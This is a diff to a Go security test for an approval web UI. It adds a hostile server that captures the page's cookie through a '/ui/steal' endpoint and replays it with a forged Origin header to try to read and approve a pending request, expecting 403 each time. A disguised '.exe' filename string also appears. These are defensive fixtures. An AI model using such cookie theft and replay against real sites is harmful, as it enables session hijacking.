@@ -320,11 +320,21 @@ print("evil\u202egnp.exe \x1b[2Khidden")`)
 // same site: the SameSite=Strict cookie goes with its requests), opened
 // in Alice's browser and knowing the id of her pending approval, cannot
 // read her approvals or answer it: by fetch with and without CORS, by a
-// beacon, by a form whose text/plain body is JSON. The approval stays
-// pending; Alice refuses it from the page.
+// beacon, by a form whose text/plain body is JSON. Its server gets the
+// page's cookie (cookies do not isolate ports), and with it still reads
+// and answers nothing. The approval stays pending; Alice refuses it from
+// the page.
 func uiHostilePage(t *testing.T, br *browser, alice *mcp.ClientSession, base string) {
 	t.Helper()
+	stolen := make(chan string, 16)
 	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if r.URL.Path == "/ui/steal" {
+			select {
+			case stolen <- r.Header.Get("Cookie"):
+			default:
+			}
+			return
+		}
 		w.Header().Set("Content-Type", "text/html; charset=utf-8")
 		io.WriteString(w, hostilePage)
 	}))
@@ -350,9 +360,49 @@ func uiHostilePage(t *testing.T, br *browser, alice *mcp.ClientSession, base str
 			t.Fatalf("after the hostile page at %s, alice's approvals are %+v; want %s still pending", host, st.Approvals, id)
 		}
 	}
+	var cookie string
+	select {
+	case cookie = <-stolen:
+	default:
+	}
+	if !strings.Contains(cookie, "ipybox_ui=") {
+		t.Errorf("the hostile server on another port got cookies %q; the test expects the browser to send it the page's cookie", cookie)
+	}
+	uiStolenCookie(t, base, cookie, id)
+	br.do(map[string]any{"cmd": "state", "who": "alice"}, &st)
+	if len(st.Approvals) != 1 || st.Approvals[0].ID != id {
+		t.Fatalf("after the stolen cookie's requests, alice's approvals are %+v; want %s still pending", st.Approvals, id)
+	}
 	br.do(map[string]any{"cmd": "answer", "who": "alice", "answer": "deny"}, nil)
 	if got := <-done; !strings.Contains(got, "ApprovalRejectedError") {
 		t.Errorf("the cell the hostile page wanted approved: %q", got)
+	}
+}
+
+// uiStolenCookie uses the page's cookie, as a server on another port got
+// it, against the page's API: no read, no CSRF token, no answer.
+func uiStolenCookie(t *testing.T, base, cookie, id string) {
+	t.Helper()
+	try := func(method, path, body string) (int, string) {
+		req, _ := http.NewRequest(method, base+path, strings.NewReader(body))
+		req.Header.Set("Cookie", cookie)
+		req.Header.Set("Origin", base) // not a browser: it says what it likes
+		req.Header.Set("Content-Type", "application/json")
+		res, err := http.DefaultClient.Do(req)
+		if err != nil {
+			t.Fatal(err)
+		}
+		defer res.Body.Close()
+		b, _ := io.ReadAll(res.Body)
+		return res.StatusCode, string(b)
+	}
+	for _, path := range []string{"/ui/api/me", "/ui/api/approvals", "/ui/api/sessions"} {
+		if code, body := try("GET", path, ""); code != 403 {
+			t.Errorf("GET %s with the stolen cookie: %d %s, want 403", path, code, body)
+		}
+	}
+	if code, body := try("POST", "/ui/api/answer", `{"id":"`+id+`","answer":"allow"}`); code != 403 {
+		t.Errorf("answer with the stolen cookie: %d %s, want 403", code, body)
 	}
 }
 
@@ -390,6 +440,9 @@ const hostilePage = `<!doctype html><title>hostile</title>
   f.action = base + '/ui/api/answer';
   await new Promise((resolve) => { document.querySelector('iframe').onload = resolve; f.submit(); });
   out.form = 'submitted';
+  // Its own server, on the same host: the browser sends it the cookies of
+  // this host's path /ui/, whatever their port.
+  await fetch('/ui/steal');
   window.__done = out;
 })();
 </script>`
